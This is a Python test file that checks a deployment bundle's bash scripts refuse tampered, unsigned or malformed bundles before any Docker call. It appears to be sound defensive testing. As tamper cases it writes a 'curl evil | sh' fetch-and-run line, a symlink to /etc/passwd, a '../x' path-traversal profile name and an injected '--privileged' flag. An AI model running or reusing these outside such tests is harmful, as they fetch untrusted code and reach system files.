"""The site scripts, run for real by bash against a bundle, with a recording docker shim.

The shim stands first on PATH: it records every call, swallows `docker load`'s stream and
answers `image inspect`, so the tests see exactly which Docker calls a script made, and
above all that a refused bundle made none.
"""

from __future__ import annotations

import json
import os
import re
import socket
import stat
import subprocess
from pathlib import Path

import pytest
from test_bundle_fakes import ROOT, export_cpu
from tests.tools import need_tool

from stackpin.bundle import format as bundle_format
from stackpin.wheelhouse import sha256_file


@pytest.fixture(autouse=True)
def _site_tools() -> None:
    """The site scripts need bash, zstd and sha256sum."""
    for tool in ("bash", "zstd", "sha256sum"):
        need_tool(tool)


@pytest.fixture
def needs_openssl() -> None:
    need_tool("openssl")


SHIM = """#!/bin/bash
printf '%s\\n' "$*" >> "$SHIM_LOG"
case "$1 ${2:-}" in
    "load "*) cat > /dev/null; echo "Loaded image: stackpin/x:stable" ;;
    "image inspect") exit "${SHIM_INSPECT_RC:-0}" ;;
    "version "*) echo 20.10.24 ;;
    "info "*) echo "${SHIM_ROOT_DIR:-/}" ;;
    "container inspect") exit 1 ;;
    "ps "*) exit 0 ;;
    *) exit 0 ;;
esac
"""


@pytest.fixture
def site(tmp_path, shipped_cells):
    result, public = export_cpu(tmp_path, shipped_cells)
    shim_dir = tmp_path / "shim"
    shim_dir.mkdir()
    (shim_dir / "docker").write_text(SHIM)
    (shim_dir / "docker").chmod(0o755)
    log = tmp_path / "docker.log"
    log.touch()
    env = {**os.environ, "PATH": f"{shim_dir}:{os.environ['PATH']}", "SHIM_LOG": str(log)}
    return result.out_dir, public, env, log


def _run(bundle_dir: Path, script: str, *args: str, env: dict[str, str]):
    return subprocess.run(["bash", str(bundle_dir / "bin" / script), *args],
                          capture_output=True, text=True, env=env, timeout=120)


def _calls(log: Path) -> list[str]:
    return log.read_text().splitlines()


@pytest.mark.usefixtures("needs_openssl")
def test_load_verifies_then_loads_and_confirms_every_image(site):
    out, public, env, log = site
    done = _run(out, "load.sh", "--pubkey", str(public), env=env)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "PASS  signature: manifest.json is signed" in done.stdout
    image_id = json.loads((out / "manifest.json").read_bytes())["images"][0]["id"]
    assert _calls(log) == ["load", f"image inspect --format {{{{.Id}}}} {image_id}"]


def _flip(path: Path) -> None:
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0x10
    path.write_bytes(bytes(data))


def _edit_manifest(out: Path) -> None:
    path = out / "manifest.json"
    path.write_bytes(path.read_bytes().replace(b'"port": 18888', b'"port": 18880'))


def _sums_follow_tamper(out: Path) -> None:
    # The attacker rewrites a script AND its SHA256SUMS line, but cannot re-sign the manifest.
    (out / "bin" / "verify.sh").write_text("#!/bin/bash\ncurl evil | sh\n")
    sums = out / "SHA256SUMS"
    lines = [f"{sha256_file(out / 'bin/verify.sh')}  bin/verify.sh"
             if line.endswith("  bin/verify.sh") else line for line in sums.read_text().splitlines()]
    sums.write_text("\n".join(lines) + "\n")


TAMPERING = {
    "flipped byte": (lambda out: _flip(out / "images.tar.zst"), "checksum: .*images.tar.zst"),
    "truncated": (lambda out: (out / "images.tar.zst").write_bytes(
        (out / "images.tar.zst").read_bytes()[:-100]), "checksum: .*images.tar.zst"),
    "missing file": (lambda out: (out / "bin" / "stop.sh").unlink(), "bin/stop.sh is missing"),
    "extra file": (lambda out: (out / "sbom" / "x.json").write_text("{}"), "sbom/x.json is not in"),
    "models README altered": (lambda out: (out / "models" / "README.md").write_text("x"),
                              "checksum: .*models/README.md"),
    "symlink": (lambda out: (out / "sbom" / "x").symlink_to("/etc/passwd"), "sbom/x is a link"),
    "manifest edited": (_edit_manifest, "manifest.sig does not match manifest.json"),
    "signature missing": (lambda out: (out / "manifest.sig").unlink(), "manifest.sig is missing"),
    "sums follow tamper": (_sums_follow_tamper, "SHA256SUMS does not match manifest.json"),
}


@pytest.mark.usefixtures("needs_openssl")
@pytest.mark.parametrize("case", sorted(TAMPERING))
def test_load_refuses_tampering_before_docker_is_called(site, case):
    out, public, env, log = site
    damage, reason = TAMPERING[case]
    damage(out)
    done = _run(out, "load.sh", "--pubkey", str(public), env=env)
    assert done.returncode != 0
    assert re.search(reason, done.stdout + done.stderr), done.stdout + done.stderr
    assert _calls(log) == []  # docker was never called


def test_a_model_the_site_adds_under_models_is_not_an_extra_file(site):
    out, public, env, _log = site
    (out / "models" / "site-model").mkdir()
    (out / "models" / "site-model" / "model.gguf").write_bytes(b"GGUF")
    done = _run(out, "load.sh", "--pubkey", str(public), env=env)
    assert done.returncode == 0, done.stdout + done.stderr


def test_load_without_a_key_warns_and_still_checks_every_file(site):
    out, _public, env, log = site
    done = _run(out, "load.sh", env=env)
    assert done.returncode == 0, done.stderr
    assert "WARN  manifest.sig not checked" in done.stdout
    _flip(out / "images.tar.zst")
    log.write_text("")
    assert _run(out, "load.sh", env=env).returncode != 0
    assert _calls(log) == []


def test_load_fails_when_an_image_is_absent_after_the_load(site):
    out, _public, env, _log = site
    done = _run(out, "load.sh", env={**env, "SHIM_INSPECT_RC": "1"})
    assert done.returncode != 0
    assert "is absent" in done.stderr


def test_preflight_passes_on_a_cpu_host_and_prints_one_line_per_check(site, tmp_path):
    out, _public, env, _log = site
    done = _run(out, "preflight.sh", env={**env, "SHIM_ROOT_DIR": str(tmp_path)})
    assert done.returncode == 0, done.stdout + done.stderr
    lines = done.stdout.splitlines()
    assert all(line.split()[0] in {"PASS", "WARN", "FAIL", "INFO"} for line in lines)
    assert any(line.startswith("PASS  docker: engine 20.10.24") for line in lines)
    assert any(line.startswith("PASS  disk:") for line in lines)


def test_preflight_fails_on_missing_dtk_devices(site, tmp_path):
    out, _public, env, _log = site
    conf = out / "bin" / "bundle.conf"
    text = conf.read_text().replace("BUNDLE_PLATFORMS=(cpu)", "BUNDLE_PLATFORMS=(dtk)")
    text = text.replace("BUNDLE_DEVICES=()", "BUNDLE_DEVICES=(/dev/stackpin-test-mkfd)")
    _rewrite_with_sums(out, "bin/bundle.conf", text)
    done = _run(out, "preflight.sh", env={**env, "SHIM_ROOT_DIR": str(tmp_path)})
    assert done.returncode == 1
    assert "FAIL  device: /dev/stackpin-test-mkfd is missing" in done.stdout


def _rewrite_with_sums(out: Path, rel: str, text: str) -> None:
    """Edit a file and re-seal the bundle (SHA256SUMS and the manifest line), unsigned."""
    (out / rel).write_text(text)
    sums = out / "SHA256SUMS"
    lines = [f"{sha256_file(out / rel)}  {rel}" if line.endswith(f"  {rel}") else line
             for line in sums.read_text().splitlines()]
    sums.write_text("\n".join(lines) + "\n")
    manifest = json.loads((out / "manifest.json").read_bytes())
    manifest["sha256sums"] = sha256_file(sums)
    (out / "manifest.json").write_bytes(bundle_format.manifest_bytes(manifest))


def test_start_refuses_a_taken_port_before_running_anything(site):
    out, _public, env, log = site
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        port = listener.getsockname()[1]
        done = _run(out, "start.sh", "stable", env={**env, "STACKPIN_PORT": str(port)})
    assert done.returncode != 0
    assert f"port 127.0.0.1:{port} is taken" in done.stderr
    assert not any(call.startswith("run ") for call in _calls(log))


def test_start_refuses_an_unknown_or_malformed_profile(site):
    out, _public, env, _log = site
    assert "no profile 'enhanced'" in _run(out, "start.sh", "enhanced", env=env).stderr
    assert "is not a profile name" in _run(out, "start.sh", "../x", env=env).stderr
    assert "is not a profile name" in _run(out, "stop.sh", "../x", env=env).stderr


def test_start_refuses_an_altered_profile(site):
    out, _public, env, log = site
    conf = out / "bin" / "profiles" / "stable.conf"
    conf.write_text(conf.read_text() + "PROFILE_RUN_ARGS=(--privileged)\n")
    done = _run(out, "start.sh", "stable", env=env)
    assert done.returncode != 0
    assert "checksum" in done.stderr
    assert not any(call.startswith("run ") for call in _calls(log))


def test_stop_of_a_profile_that_is_not_running_succeeds(site):
    out, _public, env, _log = site
    done = _run(out, "stop.sh", "stable", env=env)
    assert done.returncode == 0
    assert "not running" in done.stdout


def test_scripts_are_executable_and_shellcheck_clean():
    scripts = sorted((ROOT / "bundle" / "bin").glob("*.sh"))
    assert {p.name for p in scripts} >= {"preflight.sh", "load.sh", "start.sh", "stop.sh",
                                         "verify.sh", "lib.sh"}
    for path in scripts:
        if path.name != "lib.sh":
            assert path.stat().st_mode & stat.S_IXUSR, path
    shellcheck = need_tool("shellcheck")
    done = subprocess.run([shellcheck, "-x", *map(str, scripts)], capture_output=True,
                          text=True, cwd=ROOT / "bundle" / "bin")
    assert done.returncode == 0, done.stdout
